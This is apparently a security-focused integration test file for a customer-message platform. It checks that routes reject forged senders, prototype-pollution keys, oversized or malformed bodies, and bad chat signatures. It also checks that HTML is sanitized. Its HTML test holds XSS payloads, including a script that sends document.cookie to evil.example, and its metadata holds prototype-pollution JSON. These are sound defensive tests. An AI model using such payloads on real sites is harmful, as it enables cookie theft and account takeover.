import { createHash, randomUUID } from "node:crypto";
import { callerFor, sessionOf } from "@/testing/callers";
import { fetchRequestHandler } from "@trpc/server/adapters/fetch";
import { eq, sql } from "drizzle-orm";
import superjson from "superjson";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { POST as postApiRoute } from "@/app/api/channels/api/messages/route";
import { POST as postChatRoute } from "@/app/api/channels/chat/route";
import { POST as postEmailRoute } from "@/app/api/channels/email/route";
import { POST as postTicketRoute } from "@/app/api/channels/ticket/route";
import { defaultPolicyRules } from "@/contracts/policy-rules";
import { createTestContact, createTestOrder, createTestUser } from "@/db/factories";
import { upsertChannelSettings } from "@/db/queries/channels";
import { getMessageById, getMessageBySource } from "@/db/queries/messages";
import { getProposalOfMessage, listChangesOfProposal } from "@/db/queries/proposals";
import {
  appliedChanges,
  auditEvents,
  messages,
  orders,
  policyVersions,
  tickets,
  type contacts,
} from "@/db/schema";
import { createTestDb, resetDatabase } from "@/testing/database";
import { type SessionUser } from "../auth/session";
import { getBoss } from "../boss";
import { getExtractor } from "../extraction";
import { getMessageDetail } from "../messages/detail";
import { logger } from "../observability/logger";
import { processMessage } from "../pipeline/process-message";
import { ensureDefaultPolicy } from "../policy/default-policy";
import { appRouter } from "../routers";
import { createApiKey } from "../users/manage";
import { signChatBody } from "./chat-signature";

/**
 * What a hostile or careless sender can throw at the channels, through the real route handlers
 * and Postgres: a key that names any customer it likes, a body that picks its own channel,
 * prototype keys, oversized and unstorable bodies, forged and replayed chat signatures, and agents
 * approving their own notes. Each test states what must hold, and that nothing else was stored.
 */

const { db, close } = createTestDb({ max: 10 });
const chatSecret = "hostile-test-chat-secret";
let untrustedKey = "";
let trustedKey = "";
let ticketOnlyKey = "";

beforeAll(async () => {
  // load the offline model once, before a test's pipeline run needs it
  await getExtractor().extract({ text: "warm up" });
});
beforeEach(async () => {
  await resetDatabase(db);
  await ensureDefaultPolicy(db);
  untrustedKey = (
    await createApiKey(db, {
      name: "partner portal",
      channels: ["api", "ticket"],
      trustedSender: false,
      actor: null,
    })
  ).secret;
  trustedKey = (
    await createApiKey(db, {
      name: "helpdesk",
      channels: ["api", "email", "ticket"],
      trustedSender: true,
      actor: null,
    })
  ).secret;
  ticketOnlyKey = (
    await createApiKey(db, { name: "ticket bridge", channels: ["ticket"], trustedSender: true, actor: null })
  ).secret;
  await upsertChannelSettings(db, { channel: "chat", secret: chatSecret, settings: {} });
});
afterAll(async () => {
  await (await getBoss()).stop({ graceful: false });
  await close();
});

type Body = string | Record<string, unknown>;
const asText = (body: Body) => (typeof body === "string" ? body : JSON.stringify(body));
const nowSeconds = () => Math.floor(Date.now() / 1000);

function postApi(body: Body, key: string | null = untrustedKey) {
  return postApiRoute(
    new Request("http://localhost/api/channels/api/messages", {
      method: "POST",
      headers: { "content-type": "application/json", ...(key ? { authorization: `Bearer ${key}` } : {}) },
      body: asText(body),
    }),
  );
}

function postTicket(body: Body, key: string = trustedKey) {
  return postTicketRoute(
    new Request("http://localhost/api/channels/ticket", {
      method: "POST",
      headers: { "content-type": "application/json", authorization: `Bearer ${key}` },
      body: asText(body),
    }),
  );
}

/** A chat post, signed correctly with the channel's secret unless a signature header is given. */
function postChat(body: Body, signature?: string | null) {
  const raw = asText(body);
  const header = signature === undefined ? signChatBody(chatSecret, raw, nowSeconds()) : signature;
  return postChatRoute(
    new Request("http://localhost/api/channels/chat", {
      method: "POST",
      headers: {
        "content-type": "application/json",
        ...(header ? { "x-changedesk-signature": header } : {}),
      },
      body: raw,
    }),
  );
}

async function reason(response: Response): Promise<string> {
  const body = (await response.json()) as { message?: unknown };
  expect(typeof body.message).toBe("string");
  expect(String(body.message).length).toBeGreaterThan(0);
  return String(body.message);
}

async function storedMessageCount(): Promise<number> {
  const [row] = await db.select({ count: sql<number>`count(*)::int` }).from(messages);
  return row?.count ?? 0;
}

async function expectNothingStored() {
  expect(await storedMessageCount()).toBe(0);
  expect(await db.select().from(auditEvents).where(eq(auditEvents.action, "message.received"))).toHaveLength(
    0,
  );
}

const pipeline = async () => ({ db, boss: await getBoss(), extractor: getExtractor() });

/** A tRPC query over HTTP, as the browser makes it: superjson on the way in and on the way out. */
async function queryOverHttp(session: SessionUser, path: string, input: unknown) {
  const url = `http://localhost/api/trpc/${path}?input=${encodeURIComponent(JSON.stringify(superjson.serialize(input)))}`;
  const response = await fetchRequestHandler({
    endpoint: "/api/trpc",
    req: new Request(url),
    router: appRouter,
    createContext: () => ({ db, getBoss, user: session, log: logger, requestId: "hostile-input-test" }),
  });
  const body = (await response.json()) as {
    result?: { data: Parameters<typeof superjson.deserialize>[0] };
    error?: unknown;
  };
  return {
    status: response.status,
    data: body.result ? superjson.deserialize(body.result.data) : undefined,
    error: body.error,
  };
}

async function createTicket(contact: typeof contacts.$inferSelect, subject = "Parcel never arrived") {
  const [ticket] = await db.insert(tickets).values({ contactId: contact.id, subject }).returning();
  if (!ticket) throw new Error("ticket not created");
  return ticket;
}

function apiMessage(overrides: Record<string, unknown> = {}) {
  return {
    sourceId: `portal-${randomUUID()}`,
    sender: "ana@example.com",
    subject: "Hello",
    text: "Just saying hello.",
    ...overrides,
  };
}

function chatEvent(overrides: Record<string, unknown> = {}) {
  return { eventId: `evt-${randomUUID()}`, userId: "ana.silva", text: "hello from chat", ...overrides };
}

function ticketNote(overrides: Record<string, unknown> = {}) {
  return {
    noteId: `note-${randomUUID()}`,
    ticket: { number: 1, subject: "Parcel never arrived" },
    requester: { email: "ana@example.com" },
    author: { kind: "customer" },
    text: "Any news?",
    ...overrides,
  };
}

describe("a key not trusted to assert senders", () => {
  it("names a customer: the message is unverified and its change waits for a person, even where a trusted key's would apply", async () => {
    // an admin who trusts the extractor more than the default: a verified sender's address change
    // at this confidence is applied without a person, so only the sender's verification stands between
    await db
      .update(policyVersions)
      .set({ rules: { ...defaultPolicyRules, mediumRiskThreshold: 0.8 } })
      .where(eq(policyVersions.isActive, true));
    const attack = async (key: string) => {
      const victim = await createTestContact(db);
      const order = await createTestOrder(db, victim.id);
      const response = await postApi(
        apiMessage({
          sender: `${victim.name} <${victim.email}>`,
          subject: "Delivery",
          text: `Hi, please ship order ${order.number} to 99 Attacker Road, Springfield, IL 62704. Thanks!`,
        }),
        key,
      );
      expect(response.status).toBe(201);
      const { id } = (await response.json()) as { id: string };
      const outcome = await processMessage(await pipeline(), id);
      return { id, order, outcome };
    };

    // the control: the same words through a trusted key are applied automatically under this policy
    const trusted = await attack(trustedKey);
    expect((await getMessageById(db, trusted.id))?.senderVerification).toBe("trusted_api_key");
    expect(trusted.outcome).toMatchObject({ outcome: "proposed", route: "auto_apply" });

    const forged = await attack(untrustedKey);
    const message = await getMessageById(db, forged.id);
    expect(message).toMatchObject({ senderVerification: "unverified", authorKind: "customer" });
    expect(message?.senderVerificationReason).toMatch(/partner portal.*not trusted/);
    expect(forged.outcome).toMatchObject({ outcome: "proposed", route: "review" });
    const proposal = await getProposalOfMessage(db, forged.id);
    expect(proposal).toMatchObject({
      status: "pending_review",
      route: "review",
      routeRule: "sender_unverified",
    });
    const [change] = await listChangesOfProposal(db, proposal?.id ?? "");
    expect(change).toMatchObject({ field: "order.shippingAddress", recordId: forged.order.id });
    expect(
      await db
        .select()
        .from(appliedChanges)
        .where(eq(appliedChanges.proposalId, proposal?.id ?? "")),
    ).toEqual([]);
    const [order] = await db.select().from(orders).where(eq(orders.id, forged.order.id));
    expect(order).toMatchObject({
      version: forged.order.version,
      shippingAddress: forged.order.shippingAddress,
    });
  });

  it("is refused on a channel outside its scope, and nothing is stored", async () => {
    const response = await postApi(apiMessage(), ticketOnlyKey);
    expect(response.status).toBe(403);
    expect(await reason(response)).toMatch(/may not post to the api channel/);
    await expectNothingStored();
  });
});

describe("a body that picks its own channel or verification", () => {
  it("is refused with 400 and stores nothing, so the real email with that source id later is not a duplicate", async () => {
    const email = Buffer.from(
      [
        "From: Ana Silva <ana@example.com>",
        "To: support@changedesk.test",
        "Subject: New phone",
        "Message-ID: <CAF=abc123@mail.example.com>",
        "Date: Tue, 1 Dec 2026 09:00:00 +0000",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "the real email",
        "",
      ].join("\r\n"),
    );
    // the email channel's source id for these bytes, which an attacker can work out as well
    const sourceId = `sha256:${createHash("sha256").update(email).digest("hex")}`;
    const response = await postApi(apiMessage({ sourceId, channel: "email" }), trustedKey);
    expect(response.status).toBe(400);
    expect(await reason(response)).toMatch(/channel/);
    await expectNothingStored();

    const verification = await postApi(
      apiMessage({ sourceId, senderVerification: "email_authenticated" }),
      untrustedKey,
    );
    expect(verification.status).toBe(400);
    expect(await reason(verification)).toMatch(/senderVerification/);
    await expectNothingStored();

    const real = await postEmailRoute(
      new Request("http://localhost/api/channels/email", {
        method: "POST",
        headers: { "content-type": "message/rfc822", authorization: `Bearer ${trustedKey}` },
        body: new Uint8Array(email),
      }),
    );
    expect(real.status).toBe(201);
    expect(await real.json()).toMatchObject({ created: true, channel: "email", sourceId });
    expect(await getMessageBySource(db, { channel: "email", sourceId })).toMatchObject({
      text: "the real email",
    });
    expect(await storedMessageCount()).toBe(1);
  });
});

describe("prototype keys", () => {
  const hostileMetadata =
    '{"__proto__":{"isAdmin":true,"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}},"prototype":{"polluted":"yes"},"toString":"not a function"}';

  it("in metadata are stored as data, and the message, list, customer and proposal pages still load through superjson", async () => {
    const contact = await createTestContact(db);
    const sourceId = `proto-${randomUUID()}`;
    const body = `{"sourceId":"${sourceId}","sender":"${contact.email}","subject":"New phone","text":"Hi, please change my phone number to 415 555 0142. Thanks","metadata":${hostileMetadata}}`;
    const response = await postApi(body, trustedKey);
    expect(response.status).toBe(201);
    const { id } = (await response.json()) as { id: string };

    // nothing was polluted, in this process or in what we read back
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    const [stored] = await db.execute<{ keys: string[]; is_admin: string; polluted: string }>(sql`
      select array(select k from jsonb_object_keys(raw->'metadata') as k order by k collate "C") as keys,
             raw->'metadata'->'__proto__'->>'isAdmin' as is_admin,
             raw->'metadata'->'constructor'->'prototype'->>'polluted' as polluted
      from messages where id = ${id}`);
    expect(stored).toEqual({
      keys: ["__proto__", "constructor", "prototype", "toString"],
      is_admin: "true",
      polluted: "yes",
    });
    const message = await getMessageById(db, id);
    const metadata = (message?.raw as { metadata: Record<string, unknown> }).metadata;
    expect(Object.keys(metadata).sort()).toEqual(["__proto__", "constructor", "prototype", "toString"]);
    expect(Object.getPrototypeOf(metadata)).toBe(Object.prototype);

    // the message page's data shows the keys as text
    const detail = await getMessageDetail(db, id);
    expect(detail.message.payload).toContain('"__proto__": {');
    expect(detail.message.payload).toContain('"isAdmin": true');
    expect(detail.message.payload).toContain('"constructor": {');

    await processMessage(await pipeline(), id);
    const proposal = await getProposalOfMessage(db, id);
    expect(proposal?.status).toBe("pending_review");
    const reviewer = await sessionOf(db, await createTestUser(db, "reviewer"));
    const overHttp = {
      message: await queryOverHttp(reviewer, "message.get", { id }),
      list: await queryOverHttp(reviewer, "message.list", { limit: 50 }),
      customer: await queryOverHttp(reviewer, "customer.get", { id: contact.id }),
      proposal: await queryOverHttp(reviewer, "proposal.get", { id: proposal?.id }),
    };
    expect(
      Object.fromEntries(Object.entries(overHttp).map(([name, result]) => [name, result.status])),
    ).toEqual({ message: 200, list: 200, customer: 200, proposal: 200 });
    const shown = overHttp.message.data as Awaited<ReturnType<typeof getMessageDetail>>;
    expect(shown.message.payload).toBe(detail.message.payload);
    expect(JSON.parse(shown.message.payload) as unknown).toEqual(JSON.parse(body) as unknown);
    expect(overHttp.list.data).toMatchObject([{ id }]);
  });

  it("at the top of a body are refused as unknown fields on every route, and nothing is stored", async () => {
    const withKeys = (json: string) =>
      json.replace(/^\{/, '{"__proto__":{"senderVerification":"trusted_api_key"},"constructor":1,');
    for (const [route, response] of [
      ["api", await postApi(withKeys(JSON.stringify(apiMessage())), untrustedKey)],
      ["chat", await postChat(withKeys(JSON.stringify(chatEvent())))],
      ["ticket", await postTicket(withKeys(JSON.stringify(ticketNote())))],
    ] as const) {
      expect(response.status, route).toBe(400);
      expect(await reason(response), route).toMatch(/__proto__|constructor|unrecognized/i);
    }
    await expectNothingStored();
  });
});

describe("bodies that cannot be stored", () => {
  const routes = {
    api: { post: (body: Body) => postApi(body), valid: apiMessage, date: "receivedAt" },
    chat: { post: (body: Body) => postChat(body), valid: chatEvent, date: "sentAt" },
    ticket: { post: (body: Body) => postTicket(body), valid: ticketNote, date: "createdAt" },
  } as const;

  function nested(depth: number): unknown {
    let value: unknown = "bottom";
    for (let i = 0; i < depth; i++) value = { deeper: value };
    return value;
  }

  it.each(Object.keys(routes) as (keyof typeof routes)[])(
    "%s: a 10 MB field is refused with 413, read off the stream whatever Content-Length says",
    async (name) => {
      const route = routes[name];
      const huge = JSON.stringify(route.valid({ metadata: { padding: "x".repeat(10 * 1024 * 1024) } }));
      const response = await route.post(huge);
      expect(response.status).toBe(413);
      expect(await reason(response)).toMatch(/larger than the 1,048,576-byte limit/);

      // a body streamed in chunks under a Content-Length that claims it is small
      const chunk = new TextEncoder().encode(huge.slice(0, 64 * 1024));
      let sent = 0;
      const stream = new ReadableStream<Uint8Array>({
        pull(controller) {
          if (sent >= huge.length) return controller.close();
          controller.enqueue(chunk);
          sent += chunk.byteLength;
        },
      });
      const handler = name === "api" ? postApiRoute : name === "chat" ? postChatRoute : postTicketRoute;
      const lying = await handler(
        new Request(`http://localhost/api/channels/${name === "api" ? "api/messages" : name}`, {
          method: "POST",
          headers: {
            "content-type": "application/json",
            "content-length": "120",
            authorization: `Bearer ${trustedKey}`,
            "x-changedesk-signature": signChatBody(chatSecret, "{}", nowSeconds()),
          },
          body: stream,
          duplex: "half",
        } as RequestInit),
      );
      expect(lying.status).toBe(413);
      expect(sent).toBeLessThan(huge.length);
      await expectNothingStored();
    },
  );

  it.each(Object.keys(routes) as (keyof typeof routes)[])(
    "%s: NUL bytes, lone surrogates, nesting deeper than 32, and dates before 2000 or over a day ahead are refused with 400 and a reason",
    async (name) => {
      const route = routes[name];
      const cases: [string, string, RegExp][] = [
        ["NUL in the text", JSON.stringify(route.valid({ text: "hello\u0000world" })), /NUL/],
        ["NUL in a key", JSON.stringify(route.valid({ metadata: { "a\u0000b": 1 } })), /key contains a NUL/],
        [
          "lone high surrogate",
          JSON.stringify(route.valid({ text: "broken \ud800 pair" })),
          /lone UTF-16 surrogate/,
        ],
        [
          "lone low surrogate",
          JSON.stringify(route.valid({ metadata: { note: "\udfff" } })),
          /lone UTF-16 surrogate/,
        ],
        [
          "nesting 40 deep",
          JSON.stringify(route.valid({ metadata: { tree: nested(40) } })),
          /deeper than 32/,
        ],
        [
          "a date in 1999",
          JSON.stringify(route.valid({ [route.date]: "1999-12-31T23:59:59Z" })),
          /must lie between 2000-01-01 and a day from now/,
        ],
        [
          "a date 25 hours ahead",
          JSON.stringify(route.valid({ [route.date]: new Date(Date.now() + 25 * 3600_000).toISOString() })),
          /must lie between 2000-01-01 and a day from now/,
        ],
        ["the epoch as a number", JSON.stringify(route.valid({ [route.date]: 0 })), /must lie between 2000/],
      ];
      for (const [label, body, expected] of cases) {
        const response = await route.post(body);
        expect(response.status, label).toBe(400);
        expect(await reason(response), label).toMatch(expected);
      }
      // Latin-1 "café": the é is one byte that no UTF-8 sequence starts with
      const latin1 = Buffer.from(JSON.stringify(route.valid({ text: "café" })), "latin1");
      const invalidUtf8 = await postRawBytes(name, latin1);
      expect(invalidUtf8.status).toBe(400);
      expect(await reason(invalidUtf8)).toMatch(/not valid UTF-8/);
      await expectNothingStored();

      // the walls stop the hostile part, not the message: within them it is stored
      const fine = await route.post(
        JSON.stringify(
          route.valid({ metadata: { tree: nested(20) }, [route.date]: new Date().toISOString() }),
        ),
      );
      expect(fine.status).toBe(201);
      expect(await storedMessageCount()).toBe(1);
    },
  );

  function postRawBytes(name: keyof typeof routes, bytes: Buffer) {
    const handler = name === "api" ? postApiRoute : name === "chat" ? postChatRoute : postTicketRoute;
    return handler(
      new Request(`http://localhost/api/channels/${name === "api" ? "api/messages" : name}`, {
        method: "POST",
        headers: {
          "content-type": "application/json",
          authorization: `Bearer ${trustedKey}`,
          "x-changedesk-signature": signChatBody(chatSecret, bytes, nowSeconds()),
        },
        body: new Uint8Array(bytes),
      }),
    );
  }
});

describe("chat signatures", () => {
  it("accept a good one, refuse wrong, stale, tampered and missing ones with 401 and store nothing, and answer a replay as a duplicate", async () => {
    const event = JSON.stringify(
      chatEvent({ eventId: "evt-1", text: "Please change my phone to 415 555 0142" }),
    );
    const refusals: [string, string | null][] = [
      ["wrong secret", signChatBody("not-the-secret", event, nowSeconds())],
      ["six minutes old", signChatBody(chatSecret, event, nowSeconds() - 6 * 60)],
      ["six minutes ahead", signChatBody(chatSecret, event, nowSeconds() + 6 * 60)],
      ["signed for another body", signChatBody(chatSecret, event.replace("0142", "0199"), nowSeconds())],
      ["garbled", "t=abc,v1=zz"],
      ["missing", null],
    ];
    for (const [label, header] of refusals) {
      const response = await postChat(event, header);
      expect(response.status, label).toBe(401);
      expect(await reason(response), label).toMatch(/^Refused: /);
    }
    await expectNothingStored();

    const good = await postChat(event);
    expect(good.status).toBe(201);
    const first = (await good.json()) as { id: string; created: boolean };
    expect(first.created).toBe(true);
    expect(await getMessageById(db, first.id)).toMatchObject({
      channel: "chat",
      sourceId: "evt-1",
      sender: "chat:ana.silva",
      senderVerification: "signed_chat_user",
    });

    // the platform retries, or someone replays a captured request (freshly signed, or the same one)
    const replay = await postChat(event);
    expect(replay.status).toBe(200);
    expect(await replay.json()).toMatchObject({ id: first.id, created: false });
    const sameHeader = signChatBody(chatSecret, event, nowSeconds());
    expect((await postChat(event, sameHeader)).status).toBe(200);
    expect((await postChat(event, sameHeader)).status).toBe(200);
    expect(await storedMessageCount()).toBe(1);
  });
});

describe("helpdesk ticket notes", () => {
  const urgentNote = "escalating, customer threatens a chargeback, make this urgent";

  it("by an agent are recorded as staff notes and wait for a second person: the agent's own Changedesk account cannot approve", async () => {
    const contact = await createTestContact(db);
    const ticket = await createTicket(contact);
    const agent = await createTestUser(db, "reviewer");
    const colleague = await createTestUser(db, "reviewer");
    const response = await postTicket(
      ticketNote({
        ticket: { number: ticket.number, subject: ticket.subject },
        requester: { email: contact.email },
        author: { kind: "agent", email: agent.email.toUpperCase(), name: "Casey Agent" },
        text: urgentNote,
      }),
      trustedKey,
    );
    expect(response.status).toBe(201);
    const { id } = (await response.json()) as { id: string };
    expect(await getMessageById(db, id)).toMatchObject({
      channel: "ticket",
      authorKind: "agent",
      senderVerification: "staff_author",
      authorName: `Casey Agent <${agent.email.toUpperCase()}>`,
      ticketNumber: ticket.number,
    });

    expect(await processMessage(await pipeline(), id)).toMatchObject({
      outcome: "proposed",
      route: "review",
    });
    const proposal = await getProposalOfMessage(db, id);
    expect(proposal).toMatchObject({ status: "pending_review", routeRule: "staff_author_second_person" });
    const [change] = await listChangesOfProposal(db, proposal?.id ?? "");
    expect(change).toMatchObject({ field: "ticket.priority", recordId: ticket.id, proposedValue: "urgent" });

    const approve = { proposalId: proposal?.id ?? "", expectedVersion: proposal?.version ?? 0 };
    await expect(callerFor(db, await sessionOf(db, agent)).proposal.approve(approve)).rejects.toMatchObject({
      code: "FORBIDDEN",
      message: expect.stringMatching(/second person/) as unknown,
    });
    await expect(
      callerFor(db, await sessionOf(db, agent)).proposal.decideChange({
        ...approve,
        changeId: change?.id ?? "",
        decision: "approve",
      }),
    ).rejects.toMatchObject({ code: "FORBIDDEN" });
    expect((await getProposalOfMessage(db, id))?.status).toBe("pending_review");

    await expect(
      callerFor(db, await sessionOf(db, colleague)).proposal.approve(approve),
    ).resolves.toMatchObject({
      status: "applied",
    });
    const [after] = await db.select().from(tickets).where(eq(tickets.id, ticket.id));
    expect(after?.priority).toBe("urgent");
  });

  it("by an agent whose helpdesk name holds someone else's address still keep that agent from approving", async () => {
    const contact = await createTestContact(db);
    const ticket = await createTicket(contact);
    const agent = await createTestUser(db, "reviewer");
    const response = await postTicket(
      ticketNote({
        ticket: { number: ticket.number },
        requester: { email: contact.email },
        author: { kind: "agent", email: agent.email, name: "Casey <someone-else@example.com>" },
        text: urgentNote,
      }),
    );
    expect(response.status).toBe(201);
    const { id } = (await response.json()) as { id: string };
    expect((await getMessageById(db, id))?.authorName).toBe(
      `Casey someone-else@example.com <${agent.email}>`,
    );
    await processMessage(await pipeline(), id);
    const proposal = await getProposalOfMessage(db, id);
    expect(proposal?.routeRule).toBe("staff_author_second_person");
    await expect(
      callerFor(db, await sessionOf(db, agent)).proposal.approve({
        proposalId: proposal?.id ?? "",
        expectedVersion: proposal?.version ?? 0,
      }),
    ).rejects.toMatchObject({ code: "FORBIDDEN" });
  });

  it("by the customer go the normal way: verified by the key's trust and applied without a person", async () => {
    const contact = await createTestContact(db);
    const ticket = await createTicket(contact);
    const response = await postTicket(
      ticketNote({
        ticket: { number: ticket.number },
        requester: { email: contact.email },
        author: { kind: "customer" },
        text: "Please raise the priority of this ticket to urgent.",
      }),
      trustedKey,
    );
    expect(response.status).toBe(201);
    const { id } = (await response.json()) as { id: string };
    expect(await getMessageById(db, id)).toMatchObject({
      authorKind: "customer",
      authorName: null,
      senderVerification: "trusted_api_key",
    });
    expect(await processMessage(await pipeline(), id)).toMatchObject({
      outcome: "proposed",
      route: "auto_apply",
    });
    expect((await getProposalOfMessage(db, id))?.routeRule).not.toBe("staff_author_second_person");
  });
});

describe("staff notes in the console (message.addNote)", () => {
  it("store one note per id; its author cannot approve its change, a second person can, and an auditor cannot write one", async () => {
    const contact = await createTestContact(db);
    const ticket = await createTicket(contact);
    const author = await sessionOf(db, await createTestUser(db, "reviewer"));
    const second = await sessionOf(db, await createTestUser(db, "lead"));
    const auditor = await sessionOf(db, await createTestUser(db, "auditor"));
    const note = {
      noteId: randomUUID(),
      contactId: contact.id,
      ticketNumber: ticket.number,
      text: "Customer called: please raise the priority to urgent.",
    };

    await expect(
      callerFor(db, auditor).message.addNote({ ...note, noteId: randomUUID() }),
    ).rejects.toMatchObject({
      code: "FORBIDDEN",
    });
    await expectNothingStored();

    const added = await callerFor(db, author).message.addNote(note);
    expect(added.created).toBe(true);
    // a double submit of the same note
    expect(await callerFor(db, author).message.addNote(note)).toMatchObject({ id: added.id, created: false });
    expect(await storedMessageCount()).toBe(1);
    // another person cannot take over the id with their own words
    await expect(
      callerFor(db, second).message.addNote({ ...note, text: "Close this ticket." }),
    ).rejects.toMatchObject({ code: "CONFLICT" });
    expect(await getMessageById(db, added.id)).toMatchObject({
      channel: "note",
      authorKind: "agent",
      authorUserId: author.id,
      senderVerification: "staff_author",
      text: note.text,
    });

    await processMessage(await pipeline(), added.id);
    const proposal = await getProposalOfMessage(db, added.id);
    expect(proposal).toMatchObject({ status: "pending_review", routeRule: "staff_author_second_person" });
    const approve = { proposalId: proposal?.id ?? "", expectedVersion: proposal?.version ?? 0 };
    await expect(callerFor(db, author).proposal.approve(approve)).rejects.toMatchObject({
      code: "FORBIDDEN",
    });
    await expect(callerFor(db, auditor).proposal.approve(approve)).rejects.toMatchObject({
      code: "FORBIDDEN",
    });
    await expect(callerFor(db, second).proposal.approve(approve)).resolves.toMatchObject({
      status: "applied",
    });
    const [after] = await db.select().from(tickets).where(eq(tickets.id, ticket.id));
    expect(after?.priority).toBe("urgent");
  });
});

describe("HTML in a message", () => {
  it("is sanitized on the server before it is stored", async () => {
    const html = [
      '<p>Hi <b>team</b>, see <a href="https://example.com/order">my order</a>.</p>',
      "<script>fetch('https://evil.example/?c='+document.cookie)</script>",
      '<img src="x" onerror="alert(1)">',
      '<a href="javascript:alert(1)">click</a>',
      '<a href="JaVaScRiPt&colon;alert(2)">again</a>',
      '<div onclick="alert(3)" style="background:url(javascript:alert(4))">styled</div>',
      '<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name="x"></form>',
      "<svg><script>alert(5)</script></svg><style>body{display:none}</style>",
    ].join("\n");
    const response = await postApi(apiMessage({ html }), trustedKey);
    expect(response.status).toBe(201);
    const { id } = (await response.json()) as { id: string };
    const stored = (await getMessageById(db, id))?.html ?? "";
    expect(stored).toContain('<p>Hi <b>team</b>, see <a href="https://example.com/order">my order</a>.</p>');
    for (const gone of [
      "<script",
      "onerror",
      "onclick",
      "javascript",
      "<iframe",
      "<form",
      "<input",
      "<style",
      "style=",
    ])
      expect(stored.toLowerCase(), gone).not.toContain(gone);
    expect(stored).not.toMatch(/alert\(|document\.cookie/);
    // what the channel delivered is kept verbatim beside it
    expect((await getMessageById(db, id))?.raw).toMatchObject({ html });
  });
});
